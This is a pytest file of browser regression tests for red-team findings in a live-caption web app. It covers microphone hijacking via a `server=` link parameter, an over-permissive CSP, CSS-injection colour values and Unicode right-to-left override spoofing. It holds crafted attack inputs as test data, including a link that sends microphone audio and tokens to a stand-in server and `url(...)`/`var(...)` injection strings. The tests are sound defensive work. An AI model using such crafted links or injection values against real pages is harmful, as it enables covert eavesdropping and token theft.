"""Issue 35 (red-team round 4), the pages, in real headless chromium against a real caption
server on loopback (a stand-in stream, no model: what is under test is the pages and the
server's headers, not the captions).

- Bug 1 (MIC-SERVER): `/?stream=victim&autostart=1&server=ws://OTHER` streamed the microphone
  (and the tokens in the link) to OTHER while the page said it was live on its own stream; the
  page's CSP (`connect-src 'self' ws: wss:`) allowed any host.
- Concerns: `bg=var(--x, url(...))` passed as a colour (only the CSP stopped the load), and a
  U+202E in caption text reversed the rest of an overlay line (OV-TEXT-RLO).

Only the sound card is replaced, by chromium's own fake capture device (a beep).
"""

from __future__ import annotations

import json
import shutil
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browserkit import launch, need_chromium
from serverkit import FakeWorker, fake_factory
from websockets.sync.server import ServerConnection, serve

from streamcap.server.config import ServerConfig
from streamcap.server.thread import ServerThread

pytestmark = [pytest.mark.browser]

OUT = Path(__file__).resolve().parents[2] / "out"


class Elsewhere:
    """Another WebSocket server on another loopback port: it answers `ready` to a start and
    counts what reaches it (connections, paths, text messages, audio bytes)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.texts: list[str] = []
        self.audio_bytes = 0
        self._server = serve(self._handle, "127.0.0.1", 0)
        self.port = self._server.socket.getsockname()[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def _handle(self, ws: ServerConnection) -> None:
        self.paths.append(ws.request.path if ws.request else "?")
        for msg in ws:
            if isinstance(msg, str):
                self.texts.append(msg)
                if '"start"' in msg:
                    ws.send(json.dumps({"type": "ready", "stream": "victim", "sample_rate": 48000}))
            else:
                self.audio_bytes += len(msg)

    @property
    def url(self) -> str:
        return f"ws://127.0.0.1:{self.port}"

    def hits(self) -> str:
        return f"paths {self.paths}, texts {self.texts[:1]}, {self.audio_bytes} audio bytes"

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join(5)


@pytest.fixture(scope="module")
def server() -> Iterator[ServerThread]:
    config = ServerConfig(port=0, admission=False)
    with ServerThread(config, FakeWorker(), stream_factory=fake_factory) as srv:
        yield srv


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    other = Elsewhere()
    try:
        yield other
    finally:
        other.close()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Any]:
    sync_api = need_chromium()
    with sync_api.sync_playwright() as pw:
        context = launch(pw, tmp_path / "profile", "fake", autoplay=True, viewport=(1000, 700))
        try:
            yield context
        finally:
            context.close()


def _csp(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as r:
        return str(r.headers.get("Content-Security-Policy", ""))


# --------------------------------------------------------------------------- bug 1: the mic page


def test_the_mic_page_never_sends_the_microphone_to_a_server_named_in_its_link(
    server: ServerThread, browser: Any, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    """Was: page status `live: streaming 44100 Hz audio as "victim"`, and the other listener
    got the start message, the tokens in its URL and ~700 kB of microphone audio."""
    from playwright.sync_api import expect

    page = browser.new_page()
    link = f"/?stream=victim&token=PT&view_token=VT&autostart=1&server={elsewhere.url}"
    page.goto(server.url(link))
    status = page.locator("#status")
    # the page says why, and never reaches the other server, however long we wait
    expect(status).to_contain_text("server=", timeout=10_000)
    page.wait_for_timeout(3_000)
    assert elsewhere.paths == [] and elsewhere.audio_bytes == 0, elsewhere.hits()
    text = status.inner_text()
    assert elsewhere.url in text and "only" in text, text
    assert page.evaluate("document.body.dataset.state") == "error"
    shot = tmp_path / "mic-page-refused.png"
    page.screenshot(path=str(shot))
    OUT.mkdir(exist_ok=True)
    shutil.copyfile(shot, OUT / "mic-page-refused.png")


def test_the_mic_page_csp_lets_it_connect_to_its_own_server_only(
    server: ServerThread, browser: Any, elsewhere: Elsewhere
) -> None:
    """Was: `connect-src 'self' ws: wss:`: any script on the page could open a WebSocket to
    any host. The CSP is a second barrier behind the page's own rule."""
    page = browser.new_page()
    violations: list[str] = []
    page.on("console", lambda m: violations.append(m.text) if "Security Policy" in m.text else None)
    page.goto(server.url("/?stream=csp"))
    result = page.evaluate(
        """(url) => new Promise((resolve) => {
            try {
              const ws = new WebSocket(url + "/ingest?stream=csp");
              ws.onopen = () => resolve("open");
              ws.onerror = () => resolve("error");
            } catch (e) { resolve("threw " + e.name); }
            setTimeout(() => resolve("timeout"), 5000);
        })""",
        elsewhere.url,
    )
    page.wait_for_timeout(500)
    assert result != "open" and elsewhere.paths == [], (result, elsewhere.hits())
    assert violations, "chromium reported no CSP violation"
    csp = _csp(server.url("/"))
    assert "connect-src 'self';" in csp and "ws:" not in csp, csp


def test_the_mic_page_still_publishes_to_its_own_server(
    server: ServerThread, browser: Any, tmp_path: Path
) -> None:
    """`connect-src 'self'` covers ws:// of the page's own host:port (CSP 3): the page's own
    publisher and viewer connect, and the stand-in stream's finals come back to it."""
    from playwright.sync_api import expect

    page = browser.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: errors.append(m.text) if "Content Security" in m.text else None)
    page.goto(server.url("/?stream=own&speaker=Zoe"))
    page.click("#start")
    expect(page.locator("body")).to_have_attribute("data-state", "live", timeout=30_000)
    expect(page.locator("#captions")).to_contain_text("Zoe: final", timeout=30_000)
    assert server.server is not None
    entry = server.server.hub.get("own")
    assert entry is not None and entry.publishing
    page.screenshot(path=str(tmp_path / "mic-page-live.png"))
    OUT.mkdir(exist_ok=True)
    shutil.copyfile(tmp_path / "mic-page-live.png", OUT / "mic-page-live.png")
    page.click("#stop")
    expect(page.locator("#status")).to_contain_text("stopped", timeout=30_000)
    assert not errors, errors


def test_the_overlay_may_still_name_another_caption_server(server: ServerThread) -> None:
    """The overlay only receives captions, and `server=` is its documented parameter: its CSP
    lets it reach a WebSocket server elsewhere (docs/obs.md says so)."""
    csp = _csp(server.url("/overlay?stream=x"))
    assert "connect-src 'self' ws: wss:" in csp, csp


# --------------------------------------------------------------------------- the overlay


@pytest.mark.parametrize(
    "param",
    [
        "bg=var(--x, url(//127.0.0.1:9/bg.png))",
        "color=var(--y)",
        "highlight_color=var(--z, red)",
        "bg=url(//127.0.0.1:9/x.png)",
        "color=red;background:blue",
        "color=rgb(1,2,3);x:y",
        "color=rgb(calc(1),2,3)",
        "bg=image-set(red)",
        "color=red}",
        "color=env(safe-area-inset-top)",
        "color=attr(title)",
    ],
)
def test_overlay_colours_take_plain_colour_syntax_only(
    server: ServerThread, browser: Any, param: str
) -> None:
    """Was (OV-BG-VAR): `CSS.supports("color", "var(...)")` is true for any var(), so a box
    background of `url(http://elsewhere/bg.png)` was set and only the CSP stopped the load."""
    page = browser.new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url) if "127.0.0.1:9/" in r.url[:20] else None)
    page.goto(server.url(f"/overlay?stream=col&{param}"))
    page.wait_for_function("() => window.streamcapOverlay")
    name = param.split("=", 1)[0]
    refused = page.evaluate("document.body.dataset.refused")
    assert refused.startswith(f"{name}=") or f"; {name}=" in refused, refused
    cfg = page.evaluate("window.streamcapOverlay.cfg")
    assert "var(" not in cfg[name] and "url(" not in cfg[name], cfg[name]
    assert requests == []


@pytest.mark.parametrize(
    ("param", "want"),
    [
        ("color=ffcc00", "#ffcc00"),
        ("color=%23fc0", "#fc0"),
        ("color=red", "red"),
        ("bg=rgba(0,0,0,.5)", "rgba(0,0,0,.5)"),
        ("bg=rgb(0 0 0 / 50%25)", "rgb(0 0 0 / 50%)"),
        ("color=hsl(120deg 50%25 50%25)", "hsl(120deg 50% 50%)"),
        ("bg=none", "transparent"),
        ("bg=000000aa", "#000000aa"),
    ],
)
def test_plain_colours_are_still_taken(
    server: ServerThread, browser: Any, param: str, want: str
) -> None:
    page = browser.new_page()
    page.goto(server.url(f"/overlay?stream=col&{param}"))
    page.wait_for_function("() => window.streamcapOverlay")
    assert page.evaluate("document.body.dataset.refused") == ""
    assert page.evaluate("window.streamcapOverlay.cfg")[param.split("=", 1)[0]] == want


def _word_lefts(page: Any, text: str) -> list[tuple[str, float]]:
    """The overlay draws one final of `text`: each committed word and its box's left edge."""
    page.evaluate(
        """(text) => window.streamcapOverlay.show({type: "final", seq: 1, segment: 1, text,
            committed_chars: text.length})""",
        text,
    )
    return [
        (w, x)
        for w, x in page.evaluate(
            """() => [...document.querySelectorAll('#box .committed')]
                     .map((e) => [e.textContent, e.getBoundingClientRect().left])"""
        )
    ]


def test_a_right_to_left_override_in_caption_text_does_not_reverse_the_line(
    server: ServerThread, browser: Any
) -> None:
    """Was (OV-TEXT-RLO): a final `alpha <U+202E>beta gamma delta` drew alpha, delta, gamma,
    beta (the override ran to the end of the line). Checked by layout: the words' boxes."""
    page = browser.new_page()
    page.goto(server.url("/overlay?stream=rlo&hold=0&lines=2&size=30"))
    page.wait_for_function("() => window.streamcapOverlay")
    xs = _word_lefts(page, "alpha \u202ebeta \u2067gamma delta\u202c")
    assert [w for w, _ in xs] == ["alpha", "beta", "gamma", "delta"], xs
    lefts = [x for _, x in xs]
    assert lefts == sorted(lefts), xs  # left to right, in the order they were said


@pytest.mark.parametrize(
    "text",
    ["\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd \u05d2\u05d3\u05d5\u05dc",
     "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645 \u062c\u0645\u064a\u0639\u0627"],
    ids=["hebrew", "arabic"],
)  # fmt: skip
def test_arabic_and_hebrew_captions_still_read_right_to_left(
    server: ServerThread, browser: Any, text: str
) -> None:
    """What the RLO fix must not break: isolating every word (the obvious fix) drew these words
    left to right, backwards for their readers; the first word said stays the rightmost."""
    page = browser.new_page()
    page.goto(server.url("/overlay?stream=rtl&hold=0&lines=2&size=30"))
    page.wait_for_function("() => window.streamcapOverlay")
    xs = _word_lefts(page, text)
    assert [w for w, _ in xs] == text.split(), xs
    lefts = [x for _, x in xs]
    assert lefts == sorted(lefts, reverse=True), xs
